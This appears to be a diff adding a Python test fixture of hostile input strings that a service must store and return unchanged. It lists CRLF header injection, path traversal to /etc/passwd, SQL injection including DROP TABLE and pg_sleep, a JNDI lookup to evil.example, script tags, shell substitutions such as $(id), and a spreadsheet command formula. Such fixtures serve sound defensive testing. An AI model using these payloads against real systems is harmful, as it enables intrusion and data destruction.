@@ -1,0 +1,51 @@
+"""Texts that break a service which pastes what callers send into a line, a statement, a path or a template."""
+
+TEXTS: dict[str, str] = {
+    "line break": "a\r\nX-Injected: 1\r\n\r\nb",
+    "line feed": "a\n2026-01-01 ERROR forged",
+    "carriage return": "a\rb",
+    "next line": "a\x85b",
+    "line separator": "a\u2028b\u2029c",
+    "escape sequence": "\x1b[2J\x1b]0;owned\x07",
+    "backspaces": "a\b\b\x7f",
+    "tabs": "\ta\t",
+    "right to left": "\u202egnp.exe\u2066",
+    "invisible": "\u200b\ufeff\u00ad",
+    "composed twice": "e\u0301\u00e9",
+    "beyond 16 bits": "🍕\U0010ffff",
+    "parent folder": "../../../../etc/passwd",
+    "parent folder, escaped": "%2e%2e%2f%2e%2e%2fetc/passwd",
+    "parent folder, twice": "%252e%252e%252f..%5c..\\..%c0%af",
+    "leading slashes": "//evil.example/%2f..",
+    "quotes and a comment": "' OR 1=1 --",
+    "a second statement": "'; DROP TABLE orders; --",
+    "a parameter of PREPARE": "$1",
+    "dollar quotes": "$$ || pg_sleep(9) || $$",
+    "a parameter of psycopg2": "%s %(order_id)s %",
+    "an escape string": "\\' OR E'\\x27'",
+    "an array": '{"a",NULL,{b}}',
+    "an element of an array": 'a","b\\',
+    "a null": "NULL",
+    "a line of COPY": "\\N\t\\.",
+    "a pattern": "%_\\%",
+    "a format": "{} {0.__class__} {order_id!r} %n%x",
+    "a template": "{{7*7}} ${7*7} <%= 7 %> #{7}",
+    "a look-up": "${jndi:ldap://evil.example/a}",
+    "a script": "<script>alert(1)</script><!--",
+    "a shell": "$(id) `id` | id; id &",
+    "JSON": '{"$ne":null}","orderId":"',
+    "an object's keys": "__proto__",
+    "a formula": "=cmd|' /C calc'!A0",
+    "blanks": "   ",
+    "a number": "-1e309",
+    "as long as an id may be": "x" * 255,
+}
+"""Each is a text like any other: stored and returned as it was sent. At most 255 characters."""
+
+UNSTORABLE: dict[str, str] = {
+    "NUL": "a\0b",
+    "NUL alone": "\0",
+    "half a pair": "a\ud800",
+    "halves in the wrong order": "\udf55\ud83c",
+}
+"""No text of PostgreSQL and UTF-8: refused [R6]."""
